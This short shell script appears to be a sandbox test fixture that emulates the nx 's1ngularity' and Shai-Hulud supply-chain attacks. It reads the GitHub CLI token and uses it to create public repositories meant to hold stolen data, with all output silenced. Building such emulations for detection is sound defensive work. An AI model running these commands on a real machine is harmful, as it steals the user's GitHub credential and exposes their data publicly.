#!/bin/sh
# P12 in plain shell, as nx "s1ngularity" and Shai-Hulud did: take the GitHub CLI's token and use
# it to create a public repository for the loot. gh is not installed in the sandbox, so every call
# fails; the command lines are in the trace.
token=$(gh auth token 2>/dev/null)
gh api user --jq .login > /dev/null 2>&1
gh repo create s1ngularity-repository --public --description "results" > /dev/null 2>&1
GH_TOKEN="$token" gh api -X POST /user/repos -f name=Shai-Hulud > /dev/null 2>&1
exit 0
